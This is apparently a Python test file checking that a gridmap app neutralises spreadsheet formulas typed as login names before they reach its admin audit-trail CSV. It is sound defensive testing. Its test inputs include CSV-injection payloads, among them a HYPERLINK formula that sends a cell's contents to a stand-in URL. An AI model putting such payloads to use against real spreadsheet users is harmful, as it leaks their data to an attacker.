"""The audit trail as CSV is opened in Excel by admins: nothing an attacker typed may run there."""

from __future__ import annotations

import csv
import io
import re
from datetime import timedelta

import httpx
from servers import headers, start_server
from sqlalchemy import select, update

from gridmap.config import Settings
from gridmap.io.write import FORMULA_STARTS
from gridmap.store.db import make_engine, transaction
from gridmap.store.features import log_change
from gridmap.store.models import LoginThrottle
from gridmap.store.schema import upgrade

HYPERLINK = '=HYPERLINK("http://x"&A2,"点击")'
TYPED = (HYPERLINK, "@SUM(1+1)", "+1", "-1", "\t=1+1")


def test_failed_logins_with_formulas_as_names_land_inert_in_the_audit_csv(tmp_path):
    url = f"sqlite:///{tmp_path / 'gridmap.db'}"
    engine = make_engine(Settings(database_url=url))
    upgrade(engine)
    with transaction(engine) as conn:  # what a failed login leaves: the name typed as the actor
        for name in TYPED:
            log_change(conn, name, "login_failed", None, {"tries": 1})
    engine.dispose()
    proc, base = start_server(url)
    try:
        response = httpx.get(base + "/api/audit.csv", headers=headers(base), timeout=30)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    actors = [row[2] for row in rows[1:] if row[3] == "login_failed"]
    assert sorted(actors) == sorted("'" + name for name in TYPED)
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    assert rows[1][0].isdigit()  # ids stay numbers


def _failed_login(browser: httpx.Client, name: str) -> None:
    form = browser.get("/login").text
    csrf = re.search(r'name="csrf" value="([^"]+)"', form).group(1)
    response = browser.post("/login", data={"name": name, "password": "wrong", "csrf": csrf})
    assert response.status_code == 401


def test_a_real_failed_login_with_a_formula_as_name_is_inert_in_the_audit_csv(tmp_path):
    url = f"sqlite:///{tmp_path / 'gridmap.db'}"
    engine = make_engine(Settings(database_url=url))
    upgrade(engine)
    proc, base = start_server(url)
    try:
        with httpx.Client(base_url=base, timeout=30) as browser:
            _failed_login(browser, HYPERLINK)
            # failures reach the trail once their window has closed: let it close an hour early
            table = LoginThrottle.__table__
            with transaction(engine) as conn:
                for row in conn.execute(select(table.c.id, table.c.window_start)).all():
                    earlier = row.window_start - timedelta(hours=1)
                    conn.execute(update(table).where(table.c.id == row.id).values(window_start=earlier))  # fmt: skip
            _failed_login(browser, "测试乙")  # the next try writes the closed window's entry
        response = httpx.get(base + "/api/audit.csv", headers=headers(base), timeout=30)
    finally:
        proc.terminate()
        proc.wait(timeout=10)
        engine.dispose()
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert [row[2] for row in rows[1:] if row[3] == "login_failed"] == ["'" + HYPERLINK]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
